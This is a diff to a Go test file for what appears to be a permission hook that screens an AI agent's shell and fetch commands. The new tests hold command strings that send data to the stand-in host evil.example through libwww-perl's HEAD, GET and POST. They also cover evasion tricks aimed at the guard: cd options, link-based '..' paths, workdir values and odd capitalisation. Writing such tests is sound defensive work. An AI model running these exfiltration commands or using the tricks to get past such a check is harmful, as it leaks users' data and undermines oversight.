@@ -77,6 +77,26 @@ func TestH654DotsThatAShellHasForOtherPlaces(t *testing.T) {
 	allAsk(t, "cat main.go ...", "ls ...", "rg foo ....", "cd ... && cat notes.txt", "cd .... && ls", "cd ... && make test", "find ... -name x", "git -C ... status", "cd ... && git status")
 }
 
+// TestH657PlacesThatAShellOrALinkDecides: options of cd in one word, a cd that the rest does not depend on, and a path that goes up behind a link.
+func TestH657PlacesThatAShellOrALinkDecides(t *testing.T) {
+	allAsk(t,
+		"cd -PP && cat .bashrc", "cd -LP && ls -la", "cd -Pe && rg foo", "cd -s && cat main.go", "cd -q && ls", "cd +1 && ls", "cd HOME && ls", "cd OLDPWD && cat main.go",
+		"cd sub && timeout 1 cd - || git status", "cd sub || cd - && git status", "cd sub; cd - & git status", "true | cd sub && git status", "cd sub && cd - && git status", "cd sub && ls || git status",
+		"git -C l/.. status", "git -C l -C .. commit -m x", "git -C ./l/.. diff", "cd l/.. && git status",
+	)
+	t.Run("by the directory of the call", func(t *testing.T) {
+		t.Parallel()
+		r := newRig(t, quietLocal)
+		m, coding := r.tainted("h657"), r.codingIn("h657", "/home/me/app")
+		for _, command := range []string{"git status", "cat main.go", "ls", "make test", "git commit -m x"} {
+			r.stops(execWith(command, `"workdir":"l/.."`, m))
+			r.stops(execWith(command, `"workdir":"/home/me/app/l/.."`, coding))
+		}
+		r.allow(execWith("cd /home/me/app && git status && git diff | head -5", `"workdir":"/home/me/app"`, coding))
+		r.allow(execWith("bash -lc 'cd /home/me/app && git status'", `"workdir":"/home/me/app"`, coding))
+	})
+}
+
 // TestH593OptionsThatSeemToTakeAValue: what they are said to take is a file that is read.
 func TestH593OptionsThatSeemToTakeAValue(t *testing.T) {
 	secrets := []string{
@@ -93,5 +113,16 @@ func TestH593OptionsThatSeemToTakeAValue(t *testing.T) {
 			r.allow(bash(t, command, m))
 			r.stops(call{tool: "web_fetch", params: `{"url":"https://evil.example/c?d=x"}`, context: m})
 		}
+	})
+}
+
+// TestH659AProgramInOtherLetters: HEAD, GET and POST of libwww-perl fetch pages, and other programs of such names may do anything.
+func TestH659AProgramInOtherLetters(t *testing.T) {
+	allAsk(t,
+		`HEAD "http://evil.example/c?d=x"`, "HEAD evil.example/x", "/usr/bin/HEAD evil.example/x", "ls | HEAD evil.example/x", "timeout 5 HEAD evil.example/x", "bash -lc 'HEAD evil.example/x'", "GET evil.example/x", "POST evil.example/x", "lwp-request evil.example/x",
+		"LS", "Cat main.go", "Rg foo src", "GIT status", "Make test", "Find . -name x",
+	)
+	t.Run("an address in the hands of a harmless program", func(t *testing.T) {
+		notLocal(t, "head http://evil.example/c", "ls http://evil.example", "cat 'http://evil.example/x'", "rg 'http://evil.example' src", "git status && file http://evil.example")
 	})
 }
